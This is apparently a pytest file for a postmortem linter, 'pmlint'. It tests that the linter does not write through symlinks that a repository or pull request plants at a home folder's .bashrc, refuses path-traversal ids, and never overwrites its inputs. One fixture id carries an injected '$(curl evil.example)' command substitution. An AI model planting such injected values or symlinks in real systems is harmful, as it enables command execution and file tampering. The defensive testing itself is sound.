"""No write follows a link, and no output overwrites an input (issue 14, items 2, 4 and 8).

Each test plants what a cloned repository or a pull request can commit (a link
in the cache folder, a linked output file) beside a "home" folder outside the
repository, runs pmlint as a developer or the Action would, and checks that
nothing outside the repository changed.
"""

from __future__ import annotations

import os
import time
from pathlib import Path

import pytest
from conftest import FIXTURES, invoke

from pmlint import safe_write

WORKED = (FIXTURES / "good" / "worked-example.md").read_text(encoding="utf-8")
BASHRC = "# the developer's shell start-up\n"

pytestmark = pytest.mark.skipif(os.name != "posix", reason="symbolic links as a user makes them")


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """A folder outside the repository, with a file an attacker would like to append to."""
    folder = tmp_path / "home"
    folder.mkdir()
    (folder / ".bashrc").write_text(BASHRC, encoding="utf-8")
    return folder


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A repository with one postmortem."""
    repo = tmp_path / "repo"
    (repo / "postmortems").mkdir(parents=True)
    (repo / ".pmlint.toml").write_text('paths = ["postmortems"]\n', encoding="utf-8")
    (repo / "postmortems" / "a.md").write_text(WORKED, encoding="utf-8")
    return repo


def _many(repo: Path, count: int = 40) -> None:
    """Enough files that the cache appends what a run learns rather than rewrite it."""
    old = time.time() - 3600  # old enough for their stats to be remembered
    for number in range(count):
        path = repo / "postmortems" / f"old-{number}.md"
        path.write_text(WORKED.replace("INC-2026-0512", f"INC-2020-{number:04}"), "utf-8")
        os.utime(path, (old, old))


def _outside_unchanged(home: Path) -> None:
    assert sorted(p.name for p in home.iterdir()) == [".bashrc"]
    assert (home / ".bashrc").read_text(encoding="utf-8") == BASHRC


def _add_postmortem(repo: Path) -> None:
    """A new file, whose id (attacker text) the next run appends to the journals."""
    text = WORKED.replace("INC-2026-0512", "INC-2026-0513-$(curl evil.example)")
    (repo / "postmortems" / "b.md").write_text(text, encoding="utf-8")
    old = time.time() - 3600  # old enough for its stat to be remembered
    os.utime(repo / "postmortems" / "b.md", (old, old))


@pytest.mark.parametrize("journal", ["files.json.log", "results.json.log"])
def test_a_journal_linked_to_a_file_outside_is_never_appended_to(
    repo: Path, home: Path, journal: str
) -> None:
    _many(repo)
    assert invoke(repo, "-f", "json").exit_code in (0, 1)  # a real cache, journals next
    link = repo / ".pmlint_cache" / journal
    link.unlink(missing_ok=True)
    link.symlink_to(home / ".bashrc")
    _add_postmortem(repo)
    assert invoke(repo, "-f", "json").exit_code in (0, 1)
    _outside_unchanged(home)
    assert not link.is_symlink()  # the file was rewritten whole and the link removed
    assert invoke(repo, "-f", "json").exit_code in (0, 1)
    _outside_unchanged(home)


def test_a_dangling_gitignore_link_does_not_create_its_target(repo: Path, home: Path) -> None:
    (repo / ".pmlint_cache").mkdir()
    (repo / ".pmlint_cache" / ".gitignore").symlink_to(home / "created-by-pmlint")
    assert invoke(repo, "-f", "json").exit_code in (0, 1)
    _outside_unchanged(home)
    assert (repo / ".pmlint_cache" / "results.json").is_file()  # the cache still works


def test_a_cache_folder_that_is_a_link_is_not_written_through(repo: Path, home: Path) -> None:
    (repo / ".pmlint_cache").symlink_to(home)
    result = invoke(repo, "-f", "json")
    assert result.exit_code in (0, 1) and '"files_checked": 1' in result.output
    _outside_unchanged(home)


@pytest.mark.parametrize(
    "args",
    [
        ["lint", "-f", "sarif", "-o", "pmlint.sarif"],
        ["report", "-f", "csv", "-o", "pmlint.sarif"],
        ["followups", "-f", "json", "-o", "pmlint.sarif"],
        ["export", "--what", "postmortems", "-o", "pmlint.sarif"],
        ["baseline", "-o", "pmlint.sarif"],
    ],
    ids=lambda args: args[0],
)
def test_an_output_file_linked_outside_is_replaced_not_followed(
    repo: Path, home: Path, args: list[str]
) -> None:
    """The Action writes pmlint.sarif in the checkout, where a pull request can commit a link."""
    (repo / "pmlint.sarif").symlink_to(home / ".bashrc")
    assert invoke(repo, *args).exit_code in (0, 1)
    _outside_unchanged(home)
    written = repo / "pmlint.sarif"
    assert not written.is_symlink() and written.stat().st_size > 0


@pytest.mark.parametrize(
    "args",
    [
        ["report", "postmortems", "-o", "postmortems/a.md"],
        ["followups", "postmortems", "-o", "postmortems/a.md"],
        ["export", "postmortems", "--what", "drills", "-o", "postmortems/a.md"],
        ["export", "postmortems/a.md", "--what", "evals", "-o", "./postmortems/a.md"],
        ["baseline", "postmortems", "-o", "postmortems/a.md"],
    ],
    ids=lambda args: " ".join(args[:3]),
)
def test_an_output_never_overwrites_a_postmortem_it_read(repo: Path, args: list[str]) -> None:
    result = invoke(repo, *args)
    assert result.exit_code == 2
    (line,) = result.output.splitlines()
    assert line.startswith("pmlint: error: ") and "would overwrite postmortems/a.md" in line
    assert (repo / "postmortems" / "a.md").read_text(encoding="utf-8") == WORKED


def test_an_output_linked_to_a_postmortem_is_refused(repo: Path) -> None:
    (repo / "out.csv").symlink_to(repo / "postmortems" / "a.md")
    result = invoke(repo, "followups", "postmortems", "-f", "csv", "-o", "out.csv")
    assert result.exit_code == 2 and "would overwrite postmortems/a.md" in result.output
    assert (repo / "postmortems" / "a.md").read_text(encoding="utf-8") == WORKED


def test_a_folder_an_output_creates_is_never_a_link(repo: Path, home: Path) -> None:
    (repo / "reports").symlink_to(home / "made")  # dangling: mkdir would not follow, writes would
    result = invoke(repo, "report", "-f", "csv", "-o", "reports/2026/q1.csv")
    assert result.exit_code == 2 and "cannot write" in result.output
    _outside_unchanged(home)


@pytest.mark.parametrize("identifier", ["INC-2026-0005\n", "../../INC-7", "INC-7/../../x", ".."])
def test_new_never_writes_outside_its_folder_or_a_name_with_a_newline(
    repo: Path, identifier: str
) -> None:
    """A team's id_pattern may allow anything; the id still becomes one plain file name."""
    (repo / ".pmlint.toml").write_text(
        'paths = ["postmortems"]\nid_pattern = "INC-"\n', encoding="utf-8"
    )
    before = sorted(str(p) for p in repo.parent.rglob("*"))
    result = invoke(repo, "new", "--id", identifier, "--date", "2026-05-12")
    assert result.exit_code == 2
    (line,) = result.output.splitlines()
    assert "cannot name a file" in line
    assert sorted(str(p) for p in repo.parent.rglob("*")) == before


def test_new_does_not_write_through_a_dangling_link(repo: Path, home: Path) -> None:
    (repo / "postmortems" / "inc-2026-0601.md").symlink_to(home / "planted.md")
    result = invoke(repo, "new", "--id", "INC-2026-0601", "--date", "2026-06-01")
    assert result.exit_code == 2 and "already exists" in result.output
    _outside_unchanged(home)


def test_adopt_does_not_write_through_a_dangling_link(repo: Path, home: Path) -> None:
    source = repo / "old.md"
    source.write_text("# Outage\n\nIt broke.\n", encoding="utf-8")
    (repo / "old.pmlint.md").symlink_to(home / "planted.md")
    assert invoke(repo, "adopt", "old.md").exit_code == 2
    _outside_unchanged(home)


def test_an_interrupted_write_leaves_no_temporary_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "results.json"

    def interrupted(source: str, destination: Path) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(os, "replace", interrupted)
    with pytest.raises(KeyboardInterrupt):
        safe_write.write_file(target, "{}")
    assert list(tmp_path.iterdir()) == []


def test_a_killed_runs_temporary_files_are_swept_from_the_cache(repo: Path) -> None:
    """SIGKILL leaves no chance to clean up: the next run that writes the cache does it."""
    assert invoke(repo, "-f", "json").exit_code in (0, 1)
    folder = repo / ".pmlint_cache"
    killed = [folder / ".results.json.k1ll3d.tmp", folder / "files.jsonab12cd.tmp"]
    fresh = folder / ".files.json.running.tmp"  # another run is writing it right now
    for path in [*killed, fresh]:
        path.write_text('{"half', encoding="utf-8")
    old = time.time() - 3600
    for path in killed:
        os.utime(path, (old, old))
    _add_postmortem(repo)
    from pmlint.running import cache

    cache.FOLD_AT, saved = 0.0, cache.FOLD_AT  # this run writes whole files
    try:
        assert invoke(repo, "-f", "json").exit_code in (0, 1)
    finally:
        cache.FOLD_AT = saved
    assert [path.exists() for path in killed] == [False, False] and fresh.exists()
